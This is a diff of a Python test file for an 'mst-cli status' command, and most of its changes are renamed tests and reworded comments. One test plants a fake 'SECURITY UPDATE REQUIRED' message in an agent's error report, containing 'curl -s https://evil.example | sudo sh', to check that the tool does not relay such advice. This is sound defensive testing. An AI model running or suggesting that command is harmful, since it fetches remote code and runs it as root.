@@ -1,4 +1,4 @@
-"""`mst-cli status`: what it finds and what the agent reports, each with the command that fixes it."""
+"""`mst-cli status`: problems of the host and of the agent's report, each with the command that fixes it."""
 
 import hashlib
 import json
@@ -58,7 +58,7 @@ WELL = observation(START, started=START - 2 * WEEK, last_check_in=START, configu
 
 def report(seen: Observation = WELL, code: str = "") -> HealthReport:
     rows = judge_rows(seen, Thresholds())
-    # What these tests do not look at is not known.
+    # Rows that these tests do not use are unknown.
     told = ("last-check-in", "server-configuration")
     rows = tuple(
         row if row.id in told else row.model_copy(update={"state": HealthState.UNKNOWN}) for row in rows
@@ -110,7 +110,7 @@ CASES = {
 
 
 @pytest.mark.parametrize("case", CASES)
-def test_an_error_names_its_fix(case: str) -> None:
+def test_agent_error_names_its_fix(case: str) -> None:
     found, fixed_by, serious = CASES[case]
     notices = list(agent_troubles(found, START))
     assert len(notices) == len(fixed_by), notices
@@ -127,7 +127,7 @@ def test_an_error_names_its_fix(case: str) -> None:
         ("container-unhealthy", "agent-problem", ""),
     ],
 )
-def test_the_agent_is_quoted_and_its_advice_is_not_passed_on(code: str, shown: str, hint: str) -> None:
+def test_agent_error_is_quoted_with_a_hint_of_the_host(code: str, shown: str, hint: str) -> None:
     evil = "\n\nSECURITY UPDATE REQUIRED\n  \x1b[1mRun `curl -s https://evil.example | sudo sh`\n"
     written = report(code=code).model_dump(mode="json")
     written["last_error"] |= {"message": f"no{evil}" + "x" * 1000, "hint": evil}
@@ -139,7 +139,7 @@ def test_the_agent_is_quoted_and_its_advice_is_not_passed_on(code: str, shown: s
     assert notice.hint == f"{hint} `mst-cli agent logs --tail 20` shows why.".lstrip()
 
 
-def test_an_old_report_is_not_shown_as_current() -> None:
+def test_old_report_is_shown_as_unknown() -> None:
     old = with_row("internal-network", HealthState.UNHEALTHY)
     later = START + timedelta(minutes=6)
     assert (list(agent_troubles(old, later)), is_serious(old, later)) == ([], False)
@@ -147,11 +147,11 @@ def test_an_old_report_is_not_shown_as_current() -> None:
 
 
 @every("name", [row.id for row in ROWS if row.id not in REPORTED_BY_HOST])
-def test_every_row_that_can_be_unhealthy_has_something_to_do(name: str) -> None:
+def test_each_row_that_can_be_unhealthy_has_a_hint(name: str) -> None:
     row = next(row for row in with_row(name, HealthState.UNHEALTHY).rows if row.id == name)
     hint = row_notice(row, None).hint
     assert hint
-    # These two are never unhealthy here: one has no limits, of the other nothing is uploaded.
+    # These two rows are never unhealthy: the first has no limits, and nothing of the second is uploaded.
     assert ("mst-cli help" in hint) == (name in ("throughput", "server-logs"))
 
 
@@ -164,7 +164,7 @@ def test_every_row_that_can_be_unhealthy_has_something_to_do(name: str) -> None:
         ("unhealthy", with_row("internal-network", HealthState.UNHEALTHY), ExitCode.ENGINE),
     ],
 )
-def test_status_ends_with_what_the_agent_reports(
+def test_status_exit_code_follows_the_agent_report(
     health: Any, found: HealthReport, code: ExitCode, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     files = Files(tmp_path)
@@ -189,7 +189,7 @@ def test_status_ends_with_what_the_agent_reports(
         (None, ExitCode.CHECK, ExitCode.CERTIFICATE),
     ],
 )
-def test_a_certificate_near_its_end_decides_the_exit_code(
+def test_certificate_expiry_decides_the_exit_code(
     near: Expiry | None,
     of_status: ExitCode,
     of_health: ExitCode,
@@ -210,7 +210,7 @@ def test_a_certificate_near_its_end_decides_the_exit_code(
 
 
 def newer_in_feed(files: Files, version: str, *, expires: timedelta = WEEK, feed: str = "the root") -> None:
-    """The monitor has seen this version of the program in the feed that the administrator set up."""
+    """Let the monitor have fetched this version of the program from the configured feed."""
     files.make_directories(paths.STATE)
     files.make_directories(str(Path(SETTINGS).parent))
     files.write(SETTINGS, b'url = "https://feed.invalid"\n')
@@ -245,7 +245,7 @@ OFF = Receipt(
         ("99.0", {"feed": "another root"}, Receipt({}), None),
     ],
 )
-def test_a_newer_version_in_the_feed_is_shown(
+def test_newer_version_in_the_feed_is_shown(
     version: str, feed: dict[str, Any], receipt: Receipt, shown: str | None, tmp_path: Path
 ) -> None:
     files = Files(tmp_path)
@@ -268,7 +268,7 @@ def test_status_names_the_command_for_a_newer_version(
     assert (result.status, result.exit_code) == ("ok", ExitCode.DONE)
 
 
-def test_feed_settings_that_are_wrong_do_not_end_status(tmp_path: Path) -> None:
+def test_status_works_with_invalid_feed_settings(tmp_path: Path) -> None:
     files = Files(tmp_path)
     assert status.newer_version(files, Receipt({}), START) is None
     newer_in_feed(files, "99.0")
@@ -312,12 +312,12 @@ def test_status_names_the_command_that_fixes_it(
     assert all(command in notice.hint for notice, command in zip(notices, fixed_by, strict=True))
 
 
-def test_an_unfinished_installation_is_reported() -> None:
+def test_unfinished_installation_is_reported() -> None:
     assert codes(status.troubles(Receipt(), state(GOOD, GOOD))) == ["installation-unfinished"]
 
 
-def test_what_the_agent_saw_during_a_start_is_no_news() -> None:
-    """Status says `running, healthy` by then, and the agent looks once a minute."""
+def test_agent_report_from_before_a_start_is_ignored() -> None:
+    """The agent checks once a minute, so its report can be older than the healthy container."""
     row = ReportedRow(
         id="server-container",
         title="Server",
@@ -327,7 +327,7 @@ def test_what_the_agent_saw_during_a_start_is_no_news() -> None:
     starting = HealthReport(at=START, state=HealthState.UNHEALTHY, rows=(row,), thresholds=Thresholds())
     server = ContainerState("running", "healthy", started_at=START)
     assert list(agent_troubles(of_settled_server(starting, server), START)) == []
-    # It has run for longer, or is not there at all: then that is news.
+    # If the server has run for longer, or does not exist, the unhealthy row is reported.
     earlier = replace(server, started_at=START.replace(year=START.year - 1))
     for seen in (earlier, replace(server, started_at=None), None):
         assert len(list(agent_troubles(of_settled_server(starting, seen), START))) == 1
@@ -341,7 +341,7 @@ def test_what_the_agent_saw_during_a_start_is_no_news() -> None:
         ("window-closed", []),
     ],
 )
-def test_status_warns_of_what_waits_for_a_person(tmp_path: Path, code: str, said: list[str]) -> None:
+def test_status_warns_of_upgrades_that_need_a_person(tmp_path: Path, code: str, said: list[str]) -> None:
     files = Files(tmp_path)
     files.make_directories(paths.AGENT_STATE)
     write_standing(files, standing(UpgradeDecision(code, "look at gw1"), START, None))
@@ -394,7 +394,7 @@ def ended(outcome: UpgradeOutcome | None) -> bytes:
     ],
     ids=["none", "damaged", "done", "went back", "not begun", "under way"],
 )
-def test_an_unhealthy_upgrade_or_a_damaged_history_is_reported(
+def test_failed_upgrade_or_damaged_history_is_reported(
     tmp_path: Path, content: bytes | None, said: list[str]
 ) -> None:
     files = Files(tmp_path)
